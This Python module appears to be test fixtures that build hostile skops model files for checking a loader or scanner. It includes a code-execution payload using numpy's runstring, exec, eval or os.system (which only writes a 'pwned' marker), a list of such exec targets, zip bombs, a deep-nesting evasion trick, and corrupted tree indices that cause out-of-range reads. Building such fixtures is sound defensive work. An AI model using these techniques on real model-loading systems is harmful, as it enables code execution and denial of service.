"""Hostile skops files: code execution through a trusted-looking name, and trees whose node
indices point outside their arrays or backwards."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import numpy as np


def _rewrite(data: bytes, edit: Any) -> bytes:
    """Rewrite a skops zip's schema.json with `edit(schema)`; other members unchanged."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "schema.json":
                schema = json.loads(body)
                edit(schema)
                body = json.dumps(schema).encode()
            dst.writestr(info, body)
    return out.getvalue()


def _schema_of(value: Any) -> dict[str, Any]:
    import skops.io as sio

    schema = json.loads(zipfile.ZipFile(io.BytesIO(sio.dumps(value))).read("schema.json"))
    schema.pop("protocol", None)
    schema.pop("_skops_version", None)
    return schema  # type: ignore[no-any-return]


def exec_payload(model: Any, marker: Path, module: str, function: str) -> bytes:
    """`model` saved with skops, plus one attribute built by calling `module.function(code,
    {})` — with numpy.testing's `runstring`, that is exec: the code creates `marker`."""
    import skops.io as sio

    code = f"open({str(marker)!r}, 'w').write('pwned')"

    def edit(schema: dict[str, Any]) -> None:
        attrs = schema["content"]
        attrs["content"]["pwned"] = {
            "__class__": function,
            "__module__": module,
            "__loader__": "ConstructorFromReduceNode",
            "content": _schema_of((code, {})),
            "__id__": 9,
        }
        key_types = attrs["key_types"]["content"]
        key_types.append(dict(key_types[0]))

    return _rewrite(sio.dumps(model), edit)


EXEC_TARGETS = [
    ("numpy.testing._private.utils", "runstring"),  # the probe's: a numpy. prefix, and exec
    ("builtins", "exec"),
    ("builtins", "eval"),
    ("os", "system"),
]


def corrupt_tree(model: Any, how: str) -> Any:
    """Return a deep copy of a fitted tree model whose first tree's nodes are corrupted:
    'child_out_of_range', 'cycle' or 'feature_out_of_range'. The copy is saved with skops by
    the caller, as an attacker would."""
    import copy

    bad = copy.deepcopy(model)
    tree = (bad.estimators_[0] if hasattr(bad, "estimators_") else bad).tree_
    state = tree.__getstate__()
    nodes = state["nodes"].copy()
    internal = np.flatnonzero(nodes["left_child"] != -1)
    if how == "child_out_of_range":
        nodes["left_child"][internal[0]] = 10**9
    elif how == "cycle":
        nodes["left_child"][internal[-1]] = 0
    elif how == "feature_out_of_range":
        nodes["feature"][internal[0]] = 10**6
    else:
        raise ValueError(how)
    state["nodes"] = nodes
    tree.__setstate__(state)
    return bad


def corrupt_hist_tree(model: Any) -> Any:
    """A HistGradientBoosting model whose first predictor's root points past its nodes."""
    import copy

    bad = copy.deepcopy(model)
    predictor = bad._predictors[0][0]
    predictor.nodes["left"][0] = 10**6
    return bad


def corrupt_kd_tree(model: Any) -> Any:
    """A KNeighbors model whose KD-tree sends a sample index out of range."""
    import copy

    bad = copy.deepcopy(model)
    state = list(bad._tree.__getstate__())
    idx = state[1].copy()
    idx[0] = 10**9
    state[1] = idx
    bad._tree.__setstate__(tuple(state))
    return bad


def zip_bomb(model: Any, inflated_bytes: int = 80 << 20) -> bytes:
    """`model` saved with skops, plus a deflated member of `inflated_bytes` zeros (about a
    thousandth of that on disk) that its schema points one attribute at."""
    import skops.io as sio

    def edit(schema: dict[str, Any]) -> None:
        attrs = schema["content"]
        attrs["content"]["bomb"] = {
            "__class__": "ndarray",
            "__module__": "numpy",
            "__loader__": "NdArrayNode",
            "type": "numpy",
            "file": "bomb.npy",
            "__id__": 11,
        }
        key_types = attrs["key_types"]["content"]
        key_types.append(dict(key_types[0]))

    data = _rewrite(sio.dumps(model), edit)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        header = io.BytesIO()
        np.lib.format.write_array_header_1_0(
            header, {"descr": "|u1", "fortran_order": False, "shape": (inflated_bytes,)}
        )
        with archive.open("bomb.npy", "w", force_zip64=True) as member:
            member.write(header.getvalue())
            chunk = bytes(1 << 20)
            for _ in range(inflated_bytes >> 20):
                member.write(chunk)
    return out.getvalue()


def inflated_tree(model: Any) -> Any:
    """A fitted decision tree whose Tree claims 10**9 features and splits on the last one:
    bounds taken from the file itself would let predict read far past the input row."""
    import copy

    from sklearn.tree._tree import Tree

    bad = copy.deepcopy(model)
    tree = bad.tree_
    state = tree.__getstate__()
    nodes = state["nodes"].copy()
    nodes["feature"][np.flatnonzero(nodes["left_child"] != -1)[0]] = 10**9 - 1
    state["nodes"] = nodes
    inflated = Tree(10**9, tree.n_classes, tree.n_outputs)
    inflated.__setstate__(state)
    bad.tree_ = inflated
    return bad


def hidden_deep(model: Any, depth: int = 63) -> Any:
    """A Pipeline around `model` with, listed first, `model` again at the bottom of `depth`
    nested lists: a walk that stops at a depth limit (and remembers what it met) never
    checks the copy on the real path."""
    from sklearn.pipeline import Pipeline

    pipe = Pipeline([("clf", model)])
    chain: Any = model
    for _ in range(depth):
        chain = [chain]
    pipe.__dict__ = {"aaa": chain, **pipe.__dict__}
    return pipe


def sparse_out_of_range(model: Any) -> bytes:
    """`model` (a linear model made sparse) saved with skops, its coef_'s column indices
    pushed past its shape and its node's declared class renamed to scipy's `spmatrix` (a
    type skops trusts by default; the loader builds the npz's own format anyway)."""
    import skops.io as sio

    def rename(node: Any) -> None:
        if isinstance(node, dict):
            if node.get("__loader__") == "SparseMatrixNode":
                node["__module__"], node["__class__"] = "scipy.sparse._matrix", "spmatrix"
            for value in node.values():
                rename(value)
        elif isinstance(node, list):
            for value in node:
                rename(value)

    src = zipfile.ZipFile(io.BytesIO(sio.dumps(model)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename.endswith(".npz"):
                arrays = dict(np.load(io.BytesIO(body)))
                arrays["indices"] = np.full_like(arrays["indices"], 2**31 - 1)
                buf = io.BytesIO()
                np.savez(buf, **arrays)
                body = buf.getvalue()
            elif info.filename == "schema.json":
                schema = json.loads(body)
                rename(schema)
                body = json.dumps(schema).encode()
            dst.writestr(info, body)
    return out.getvalue()


def shared_member_bomb(model: Any, refs: int = 80, member_bytes: int = 8 << 20) -> bytes:
    """`model` saved with skops plus `refs` attributes that all read one deflated member of
    `member_bytes` (under the per-member inflation floor): skops reads it once per node."""
    import skops.io as sio

    def edit(schema: dict[str, Any]) -> None:
        attrs = schema["content"]
        key_types = attrs["key_types"]["content"]
        for i in range(refs):
            attrs["content"][f"x{i}"] = {
                "__class__": "ndarray",
                "__module__": "numpy",
                "__loader__": "NdArrayNode",
                "type": "numpy",
                "file": "shared.npy",
                "__id__": 10_000 + i,
            }
            key_types.append(dict(key_types[0]))

    out = io.BytesIO(_rewrite(sio.dumps(model), edit))
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "|u1", "fortran_order": False, "shape": (member_bytes,)}
    )
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("shared.npy", header.getvalue() + bytes(member_bytes))
    return out.getvalue()


def nested_archive_bomb(model: Any, inflated_mib: int = 200) -> bytes:
    """`model` saved with skops plus a stored .npz member (a sparse matrix's format) whose
    own data member is deflated zeros: only the inner archive's sizes show the bomb."""
    import skops.io as sio

    def edit(schema: dict[str, Any]) -> None:
        attrs = schema["content"]
        attrs["content"]["sparse"] = {
            "__class__": "spmatrix",
            "__module__": "scipy.sparse._matrix",
            "__loader__": "SparseMatrixNode",
            "type": "scipy",
            "file": "inner.npz",
            "__id__": 10_000,
        }
        key_types = attrs["key_types"]["content"]
        key_types.append(dict(key_types[0]))

    inner = io.BytesIO()
    with (
        zipfile.ZipFile(inner, "w", compression=zipfile.ZIP_DEFLATED) as npz,
        npz.open("data.npy", "w", force_zip64=True) as member,
    ):
        header = io.BytesIO()
        np.lib.format.write_array_header_1_0(
            header, {"descr": "|u1", "fortran_order": False, "shape": (inflated_mib << 20,)}
        )
        member.write(header.getvalue())
        for _ in range(inflated_mib):
            member.write(bytes(1 << 20))
    out = io.BytesIO(_rewrite(sio.dumps(model), edit))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("inner.npz", inner.getvalue())
    return out.getvalue()
